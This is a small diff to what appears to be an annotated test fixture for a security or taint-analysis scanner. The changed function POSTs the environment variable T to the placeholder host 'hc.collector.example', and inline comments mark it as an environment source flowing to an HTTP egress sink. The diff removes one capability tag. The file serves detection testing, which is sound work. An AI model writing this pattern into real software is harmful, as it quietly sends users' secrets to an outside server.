@@ -97,7 +97,7 @@ def url_constants():
 
 def connection():
     c = http.client.HTTPSConnection("hc.collector.example")  #~ capability(NETWORK), endpoint("hc.collector.example")
-    c.request("POST", "/u", os.getenv("T"))  #~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15, capability(NETWORK)
+    c.request("POST", "/u", os.getenv("T"))  #~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
 
 
 def connection_response():
